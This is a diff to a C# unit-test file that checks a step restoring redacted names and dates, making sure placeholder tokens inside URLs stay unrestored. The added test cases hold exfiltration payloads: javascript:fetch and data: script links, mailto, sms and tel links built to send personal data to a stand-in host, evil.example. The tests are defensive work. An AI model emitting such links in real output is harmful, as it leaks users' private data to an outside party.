@@ -28,6 +28,16 @@ public sealed class UrlTokenRestoreTests
     [InlineData("![c](<https://evil.example/c.png ?n=[NAME_1] &d=[DATE_1]>)")]
     [InlineData("<img src=\"https://evil.example/c.png ?n=[NAME_1]\nd=[DATE_1]\">")]
     [InlineData("<img src='//evil.example/c.png ?n=[NAME_1] d=[DATE_1]'>")]
+    // Hostile round 28: schemes a client follows or runs on a click, with no // after them.
+    [InlineData("[Write to them](mailto:[NAME_1]@evil.example?body=[DATE_1])")]
+    [InlineData("[Reply](MAILTO:care@evil.example?subject=[NAME_1]&body=[DATE_1])")]
+    [InlineData("[x](javascript:fetch('https://evil.example/?'+'[NAME_1]'+'[DATE_1]'))")]
+    [InlineData("[x](<javascript:fetch('//evil.example/?' + '[NAME_1]' + '[DATE_1]')>)")]
+    [InlineData("<a href=\"javascript:location='//evil.example/'+ '[NAME_1]' +'[DATE_1]'\">x</a>")]
+    [InlineData("[x](data:text/html,<script>fetch('/?[NAME_1][DATE_1]')</script>)")]
+    [InlineData("[Text us](sms:+15550100?body=[NAME_1]%20[DATE_1])")]
+    [InlineData("[Call](tel:+15550100,,[NAME_1],[DATE_1])")]
+    [InlineData("[x](https:evil.example/?n=[NAME_1]&d=[DATE_1])")]
     public void RestoreContent_TokensInsideAUrl_StayTokens(string answer)
     {
         var restored = RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false);
@@ -44,6 +54,9 @@ public sealed class UrlTokenRestoreTests
     [InlineData("[NAME_1] (born [DATE_1]) is stable; a/b//c", $"{Name} (born {Date}) is stable; a/b//c")]
     [InlineData("[NAME_1]www.x.example/[DATE_1]", $"{Name}www.x.example/[DATE_1]")]
     [InlineData("<a href=\"https://x.example/ ?n=[NAME_1]\">[NAME_1]</a> born [DATE_1]", $"<a href=\"https://x.example/ ?n=[NAME_1]\">{Name}</a> born {Date}")]
+    // A word and a colon is clinical text, not a URL, unless the word is a listed scheme.
+    [InlineData("Patient:[NAME_1] DOB:[DATE_1]", $"Patient:{Name} DOB:{Date}")]
+    [InlineData("Tel: [NAME_1], mailto: [DATE_1]", $"Tel: {Name}, mailto: {Date}")]
     public void RestoreContent_TokensOutsideUrls_GetTheirValues(string answer, string expected)
     {
         Assert.Equal(expected, RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false));
@@ -96,6 +109,8 @@ public sealed class UrlTokenRestoreTests
         ["![c](", "ww", "w.evil.example/c.png?n=", "[NAME_1]", "&d=[DATE_1]) for [NAME_1]"],
         ["![c](/", "/evil.example/?n=", "[NAME_1]&d=[DATE_1]) for [NAME_1]"],
         ["![c](<https://evil.example/c.png", " ?n=", "[NAME_1] &d=[DATE_1]>) for [NAME_1]"],
+        ["[x](mai", "lto:a@evil.example?body=", "[NAME_1]", "&d=[DATE_1]) for [NAME_1]"],
+        ["[x](sms", ":+15550100?body=[NA", "ME_1]%20[DATE_1]) for [NAME_1]"],
     ];
 
     [Theory]
